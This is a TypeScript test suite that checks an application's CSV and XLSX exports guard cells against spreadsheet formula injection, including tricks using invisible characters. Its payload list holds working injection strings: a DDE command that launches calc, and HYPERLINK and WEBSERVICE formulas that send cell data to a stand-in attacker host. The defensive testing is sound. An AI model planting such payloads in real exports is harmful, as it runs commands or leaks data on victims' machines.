import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import fc from 'fast-check'
import { unzipSync } from 'fflate'
import { csvFile, guarded, unguarded } from './csv.ts'
import { csvGrid } from './import/csv.ts'
import { openTestInstance, type TestInstance, type TestReply } from './instance.fixture.ts'

type Send = (method: string, path: string, body?: unknown) => Promise<TestReply>

/** What stands before a sign and is not seen, by what it is called. */
const UNSEEN = [
  ['nothing', ''],
  ['tab', '\t'],
  ['carriage return', '\r'],
  ['line feed', '\n'],
  ['space', ' '],
  ['no-break space', '\u00A0'],
  ['next line', '\u0085'],
  ['soft hyphen', '\u00AD'],
  ['Mongolian vowel separator', '\u180E'],
  ['zero-width space', '\u200B'],
  ['zero-width joiner', '\u200D'],
  ['word joiner', '\u2060'],
  ['byte order mark', '\uFEFF'],
  ['right-to-left override', '\u202E'],
  ['left-to-right isolate', '\u2066'],
  ['ideographic space', '\u3000'],
  ['Hangul filler', '\u3164'],
  ['control', '\u0001'],
  ['tag', '\u{E0001}'],
] as const

const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '|1', '%0', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'] as const

const payloads = [
  ...UNSEEN.flatMap(([, unseen]) => FORMULAS.slice(0, 4).map((formula) => `${unseen}${formula}`)),
  ...FORMULAS.slice(4),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1)',
  '=WEBSERVICE("https://evil.example")',
  '@SUM(1+1)*cmd|/C calc',
  '\u200B\u202E=1+1',
]

let instance: TestInstance
let send: Send

before(async () => {
  instance = await openTestInstance()
  send = await instance.as(await instance.organisation('Own'), 'manager')
})
after(() => instance.close())

describe('a cell of CSV', () => {
  it('is guarded where a spreadsheet would run it, however that is spelt', () => {
    for (const payload of payloads) assert.equal(guarded(payload), `'${payload}`, JSON.stringify(payload))
  })

  it('is guarded whatever invisible characters stand before the sign', () => {
    const unseen = fc.integer({ min: 0, max: 0x10ffff }).map((code) => (code >= 0xd800 && code < 0xe000 ? ' ' : String.fromCodePoint(code)))
    const invisible = unseen.filter((character) => /^[\p{Cf}\p{Zs}\p{Cc}]$/u.test(character))
    const sign = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠')
    const seen = fc.constantFrom(...UNSEEN.map(([, character]) => character))
    fc.assert(
      fc.property(fc.array(fc.oneof(seen, invisible), { maxLength: 6 }), sign, fc.string(), (unseenOnes, first, rest) => {
        const text = `${unseenOnes.join('')}${first}${rest}`
        assert.ok(guarded(text) === `'${text}` || (/^-\d+(?:\.\d+)?$/.test(text) && guarded(text) === text))
      }),
      { numRuns: 2000 },
    )
  })

  it('is what it was once its guard is taken off', () => {
    const nasty = fc
      .array(fc.oneof(fc.constantFrom(...payloads, "'", "''=", '-5', '"'), fc.string()), { maxLength: 3 })
      .map((parts) => parts.join(''))
    fc.assert(fc.property(nasty, (text) => assert.equal(unguarded(guarded(text)), text)))
  })

  it('is left alone where nothing runs it, numbers included', () => {
    for (const text of ['', 'a', 'a=1', '5', '-5', '-0.25', "O'Neill", "'quoted'", ' a', 'A-1', '1 = 1'])
      assert.equal(guarded(text), text, text)
  })

  it('is told in time that grows with its length', () => {
    const started = process.cpuUsage()
    for (const text of ['\u200B'.repeat(500_000), "'".repeat(500_000), `${'\t '.repeat(250_000)}a`]) guarded(text)
    assert.ok(process.cpuUsage(started).user < 1_000_000)
  })

  it('comes back from a file as it was written', () => {
    const cell = fc.oneof(fc.constantFrom(...payloads), fc.string({ unit: 'grapheme' })).map((text) => text.trim())
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constant('x'), cell, cell), { minLength: 3, maxLength: 6 }), (rows) => {
        const { rows: read } = csvGrid(new TextDecoder().decode(csvFile([['a', 'b', 'c'], ...rows])))
        assert.deepEqual(
          read.slice(1).map(({ cells }) => cells),
          rows,
        )
      }),
    )
  })
})

describe('every export', () => {
  const stored = [...new Set(payloads.map((payload) => payload.trim()))]

  before(async () => {
    for (const name of stored) assert.equal((await send('POST', '/api/assets', { name, location: name })).status, 201, name)
    for (const title of stored.slice(0, 20)) await send('POST', '/api/controls', { title, justification: title })
  })

  const cellsOf = (bytes: Uint8Array): readonly string[] => rawCells(new TextDecoder().decode(bytes))

  it('of a register as CSV holds no cell that runs, and imports again without a change', async () => {
    const { bytes } = await send('GET', '/api/assets/export?format=csv')
    const { body } = await send('POST', '/api/assets/import', bytes)
    assert.deepEqual([body['create'], body['update'], body['unchanged'], body['rejected']], [0, 0, stored.length, []])
    assertSafe(cellsOf(bytes))
  })

  it('of rows that were not used, and of the Statement of Applicability, holds none either', async () => {
    const sheet = csvFile([['Name', 'Location', 'Description'], ...payloads.map((payload) => ['', payload, payload])])
    const rejected = await send('POST', '/api/assets/import?rejected=csv', sheet)
    assert.equal(rejected.status, 200)
    assertSafe(cellsOf(rejected.bytes))
    assertSafe(cellsOf((await send('GET', '/api/soa?format=csv')).bytes))
  })

  it('as a workbook has text alone in its cells', async () => {
    for (const path of ['/api/assets/export?format=xlsx', '/api/soa?format=xlsx', '/api/controls/export?format=xlsx']) {
      const parts = unzipSync((await send('GET', path)).bytes)
      const sheets = Object.entries(parts).filter(([part]) => /worksheets\/sheet\d+\.xml$/.test(part))
      for (const [name, sheet] of sheets) {
        const xml = new TextDecoder().decode(sheet)
        assert.ok(/<c /.test(xml), name)
        assert.equal(/<f[ >/]/.test(xml), false, `${path} ${name}`)
        for (const [cell] of xml.matchAll(/<c [^>]*>/g)) assert.ok(/ t="(?:s|inlineStr|str)"/.test(cell) || cell.endsWith('/>'), cell)
      }
    }
  })

  it('opens in LibreOffice without a formula', { skip: spawnSync('soffice', ['--version']).status !== 0 }, async () => {
    const folder = mkdtempSync(join(tmpdir(), 'assay-csv-'))
    try {
      const files = new Map<string, Uint8Array>([
        ['control.csv', new TextEncoder().encode('a,b\n=1+1,x\n')],
        ['payloads.csv', csvFile([['a', 'b'], ...payloads.map((payload) => [payload, 'x'])])],
        ['assets.csv', (await send('GET', '/api/assets/export?format=csv')).bytes],
        ['soa.csv', (await send('GET', '/api/soa?format=csv')).bytes],
        ['assets-x.xlsx', (await send('GET', '/api/assets/export?format=xlsx')).bytes],
      ])
      for (const [name, bytes] of files) writeFileSync(join(folder, name), bytes)
      assert.ok(payloads.length >= 60)
      const counts = [...files.keys()].map((name) => [name, formulasIn(folder, name)] as const)
      assert.deepEqual(counts.shift(), ['control.csv', 1])
      assert.deepEqual(
        counts.filter(([, count]) => count !== 0),
        [],
      )
    } finally {
      rmSync(folder, { recursive: true, force: true })
    }
  })
})

/** Cells as a spreadsheet sees them: with their guards. */
function rawCells(text: string): readonly string[] {
  return [...text.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

function assertSafe(cells: readonly string[]): void {
  assert.ok(cells.some((cell) => cell.startsWith("'")))
  for (const cell of cells) assert.equal(guarded(cell) === cell || cell.startsWith("'"), true, JSON.stringify(cell))
}

/** How many cells LibreOffice would calculate, with its import of formulas switched on. */
function formulasIn(folder: string, name: string): number {
  const out = name.replace(/\.\w+$/, '.fods')
  const filter = name.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'] : []
  const home = `-env:UserInstallation=file://${join(folder, 'profile')}`
  const args = [home, '--headless', ...filter, '--convert-to', 'fods', '--outdir', folder, join(folder, name)]
  const { status, stderr } = spawnSync('soffice', args, { encoding: 'utf8', timeout: 110_000 })
  assert.equal(status, 0, stderr)
  return [...readFileSync(join(folder, out), 'utf8').matchAll(/table:formula=/g)].length
}
